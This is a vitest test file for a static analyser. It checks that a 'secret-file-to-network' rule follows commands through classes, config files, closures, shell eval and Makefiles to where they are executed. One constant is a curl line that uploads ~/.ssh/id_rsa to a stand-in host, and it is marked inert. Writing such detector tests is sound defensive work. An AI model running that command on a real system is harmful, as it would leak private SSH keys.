import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';
import { rulesOf } from './rules-of.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const SENDS = 'curl -F f=@$HOME/.ssh/id_rsa https://collect.example.invalid/in';
const HARMLESS = 'curl -s -o data/notes.txt https://example.org/notes.txt';

type Files = Readonly<Record<string, string>>;

const IN_FIELDS: Readonly<Record<string, Files>> = {
  'a data class': {
    'run.py':
      "import subprocess\nfrom dataclasses import dataclass\n@dataclass\nclass Step:\n    line: str\n    def go(self):\n        subprocess.run(self.line, shell=True)\nStep('mkdir -p build').go()\nStep('RUN').go()\n",
  },
  'a list of data classes': {
    'run.py':
      "import subprocess\nfrom dataclasses import dataclass\n@dataclass\nclass Step:\n    name: str\n    line: str\nfor step in [Step('a', 'mkdir -p build'), Step('b', line='RUN')]:\n    subprocess.run(step.line, shell=True)\n",
  },
  'a class': {
    'run.py':
      "import subprocess\nclass Step:\n    def __init__(self, line):\n        self.line = line\n    def go(self):\n        subprocess.run(self.line, shell=True)\nStep('mkdir -p build').go()\nStep('RUN').go()\n",
  },
  'a class made from another': {
    'run.py':
      "import subprocess\nclass Step:\n    def __init__(self, line):\n        self.line = line\nclass Shown(Step):\n    def go(self):\n        subprocess.run(self.line, shell=True)\nShown('RUN').go()\n",
  },
  'a model with a default': {
    'run.py':
      "import os\nfrom pydantic import BaseModel\nclass Step(BaseModel):\n    line: str = 'true'\n    def go(self):\n        os.system(self.line)\nStep(line='RUN').go()\n",
  },
  'a named tuple': {
    'run.py':
      "import os\nfrom collections import namedtuple\nStep = namedtuple('Step', 'name line')\nfor step in [Step('a', 'ls'), Step('b', 'RUN')]:\n    os.system(step.line)\n",
  },
  'classes that say it themselves': {
    'run.py':
      "import os\nclass Step:\n    line = 'true'\n    def go(self):\n        os.system(self.line)\nclass Build(Step):\n    line = 'mkdir -p build'\nclass Check(Step):\n    line = 'RUN'\nfor kind in (Build, Check):\n    kind().go()\n",
  },
  'a class of JavaScript': {
    'run.js':
      "const { execSync } = require('child_process');\nclass Step {\n  #line;\n  constructor(line) { this.#line = line; }\n  go() { execSync(this.#line); }\n}\nfor (const step of [new Step('mkdir -p build'), new Step('RUN')]) step.go();\n",
  },
  'a parameter that is a field': {
    'run.ts':
      "import { execSync } from 'child_process';\nclass Step {\n  constructor(private readonly line: string) {}\n  go() { execSync(this.line); }\n}\nnew Step('mkdir -p build').go();\nnew Step('RUN').go();\n",
  },
  'objects that a function makes': {
    'run.js':
      "const { execSync } = require('child_process');\nconst step = (line) => ({ line, go() { execSync(this.line); } });\n[step('mkdir -p build'), step('RUN')].forEach((each) => each.go());\n",
  },
};

const IN_FILES: Readonly<Record<string, Files>> = {
  JSON: {
    'run.py':
      "import json, subprocess\nfor step in json.load(open('steps.json'))['run']:\n    subprocess.run(step, shell=True)\n",
    'steps.json': '{"run": ["mkdir -p build", "RUN"]}',
  },
  'words in JSON': {
    'run.py':
      "import json, subprocess\nfor step in json.load(open('steps.json')):\n    subprocess.run(step['words'])\n",
    'steps.json': '[{"words": ["sh", "-c", "RUN"]}]',
  },
  YAML: {
    'tools/run.py':
      "import subprocess, yaml\nfrom pathlib import Path\nHERE = Path(__file__).parent\nfor step in yaml.safe_load((HERE / 'steps.yaml').read_text())['steps']:\n    subprocess.run(step['run'], shell=True, check=True)\n",
    'tools/steps.yaml': 'steps:\n  - name: build\n    run: mkdir -p build\n  - name: check\n    run: RUN\n',
  },
  TOML: {
    'run.py':
      "import os, tomllib\nwith open(os.path.join(os.path.dirname(__file__), 'tasks.toml'), 'rb') as file:\n    tasks = tomllib.load(file)\nfor name, line in tasks['tasks'].items():\n    os.system(line)\n",
    'tasks.toml': '[tasks]\nbuild = "mkdir -p build"\ncheck = "RUN"\n',
  },
  'a file with sections': {
    'run.py':
      "import configparser, os\nsettings = configparser.ConfigParser()\nsettings.read('tasks.ini')\nos.system(settings['tasks']['check'])\n",
    'tasks.ini': '[tasks]\nbuild = mkdir -p build\ncheck = RUN\n',
  },
  'a table': {
    'run.py':
      "import csv, os\nwith open('steps.csv') as file:\n    for row in csv.DictReader(file):\n        os.system(row['command'])\n",
    'steps.csv': 'name,command\nbuild,mkdir -p build\ncheck,RUN\n',
  },
  'a file of a package': {
    'pkg/__init__.py':
      "import json, os, pkgutil\nos.system(json.loads(pkgutil.get_data(__name__, 'steps.json'))['post'])\n",
    'pkg/steps.json': '{"post": "RUN"}',
  },
  'a module in JSON': {
    'run.mjs':
      "import { execSync } from 'node:child_process';\nimport steps from './steps.json' with { type: 'json' };\nfor (const step of steps) execSync(step);\n",
    'steps.json': '["mkdir -p build", "RUN"]',
  },
  'JSON that JavaScript reads': {
    'run.js':
      "const { execSync } = require('child_process');\nconst fs = require('fs');\nconst path = require('path');\nconst settings = JSON.parse(fs.readFileSync(path.join(__dirname, 'data', 'steps.json'), 'utf8'));\nsettings.steps.forEach(({ run }) => execSync(run));\n",
    'data/steps.json': '{"steps": [{"run": "mkdir -p build"}, {"run": "RUN"}]}',
  },
  'JSON that a shell reads': {
    'run.sh': `jq -r '.steps[]' steps.json | while read -r line; do bash -c "$line"; done\n`,
    'steps.json': '{"steps": ["mkdir -p build", "RUN"]}',
  },
};

const HANDED_ON: Readonly<Record<string, Files>> = {
  'a function that tries again': {
    'run.py':
      "import os\ndef retry(f, *args):\n    for _ in range(3):\n        if f(*args) == 0:\n            return\nretry(os.system, 'mkdir -p build')\nretry(os.system, 'RUN')\n",
  },
  'bound functions in a list': {
    'run.py':
      "import os\nfrom functools import partial\nfor step in [partial(os.system, 'mkdir -p build'), partial(os.system, 'RUN')]:\n    step()\n",
  },
  'bound functions in JavaScript': {
    'run.js':
      "const { exec } = require('child_process');\n[exec.bind(null, 'mkdir -p build'), exec.bind(null, 'RUN')].forEach((step) => step());\n",
  },
  'a function that a function makes': {
    'run.py':
      "import os\ndef step(line):\n    def go():\n        os.system(line)\n    return go\nstep('mkdir -p build')()\nstep('RUN')()\n",
  },
  'a list as a stack': { 'run.py': "import os\nrows = []\nrows.append('RUN')\nos.system(rows.pop())\n" },
  'a queue': {
    'run.py':
      "import os, queue\nrows = queue.Queue()\nrows.put('mkdir -p build')\nrows.put('RUN')\nwhile not rows.empty():\n    os.system(rows.get())\n",
  },
  'a table that is filled': {
    'run.py':
      "import os\nrows = {}\nrows.setdefault('a', []).append('mkdir -p build')\nrows.setdefault('a', []).append('RUN')\nfor line in rows['a']:\n    os.system(line)\n",
  },
  'a map of JavaScript': {
    'run.js':
      "const { exec } = require('child_process');\nconst steps = new Map([['build', 'mkdir -p build']]);\nsteps.set('check', 'RUN');\nexec(steps.get(process.argv[2]));\n",
  },
  'a table of the shell': {
    'run.sh': `declare -A steps\nsteps[build]='mkdir -p build'\nsteps[check]='RUN'\nfor name in "\${!steps[@]}"; do\n  eval "\${steps[$name]}"\ndone\n`,
  },
  'a reference of the shell': {
    'run.sh': `go() {\n  local -n ref=$1\n  eval "$ref"\n}\nfirst='mkdir -p build'\nsecond='RUN'\ngo first\ngo second\n`,
  },
  'lines of the shell': {
    'run.sh': `mapfile -t lines <<'X'\nmkdir -p build\nRUN\nX\nfor line in "\${lines[@]}"; do eval "$line"; done\n`,
  },
  'a function of make': {
    Makefile: 'run = $(1)\nall:\n\t$(call run,mkdir -p build)\n\t$(call run,RUN)\n',
  },
  'a function of make with lines': {
    Makefile: "define run\n\t@echo go\n\t@sh -c '$(1)'\nendef\nall:\n\t$(call run,RUN)\n",
  },
};

function rulesWith(files: Files, command: string): Promise<readonly string[]> {
  const written = Object.entries(files).map(([path, text]) => {
    const inMake = path === 'Makefile' ? command.replaceAll('$', '$$$$') : command;
    return [path, text.replaceAll('RUN', () => inMake)] as const;
  });
  return rulesOf(Object.fromEntries(written));
}

describe.each([
  ['kept in a field', IN_FIELDS],
  ['kept in a file', IN_FILES],
  ['handed on', HANDED_ON],
])('a command that is %s', (_, cases) => {
  it.each(Object.entries(cases))('is run where it arrives: %s', async (_each, files) => {
    expect(await rulesWith(files, SENDS)).toContain('secret-file-to-network');
    expect(await rulesWith(files, HARMLESS)).not.toContain('secret-file-to-network');
  });
});

describe('a command that is only kept', () => {
  it.each<readonly [string, Files]>([
    [
      'in a file that another program reads',
      { 'run.py': "import json\nprint(json.load(open('steps.json')))\n", 'steps.json': '["RUN"]' },
    ],
    [
      'in a file that nobody reads',
      { 'run.py': "import os\nos.system('make')\n", 'notes.txt': 'Never run: RUN\n' },
    ],
    [
      'in a field that is shown',
      {
        'run.py':
          "import subprocess\nfrom dataclasses import dataclass\n@dataclass\nclass Tip:\n    text: str\ntip = Tip('RUN')\nprint(tip.text)\nsubprocess.run(['make', 'all'])\n",
      },
    ],
    [
      'beside a field that is run',
      {
        'run.py':
          "import os\nfrom dataclasses import dataclass\n@dataclass\nclass Step:\n    line: str\n    bad: str\n    def go(self):\n        os.system(self.line)\nStep('make all', 'RUN').go()\n",
      },
    ],
    [
      'beside one that is run',
      {
        'run.py':
          "import os\nclass Step:\n    def __init__(self, line, bad):\n        self.line = line\n        self.bad = bad\n    def go(self):\n        os.system(self.line)\nStep('make all', 'RUN').go()\n",
      },
    ],
  ])('is not run: %s', async (_, files) => {
    expect(await rulesWith(files, SENDS)).not.toContain('secret-file-to-network');
  });
});

describe('more commands than are followed', () => {
  it('are said', async () => {
    const steps = Array.from({ length: 2_500 }, (_, at) => `Step('curl -s https://example.org/${at} -o a')`);
    const text = `import os\nclass Step:\n    def __init__(self, line):\n        self.line = line\n    def go(self):\n        os.system(self.line)\nfor step in [${steps.join(', ')}]:\n    step.go()\n`;
    const { gaps } = await staticStage.run(targetOf({ 'run.py': text }), STAGE_CONTEXT);
    expect(JSON.stringify(gaps)).toMatch(/than are followed/);
  });
});
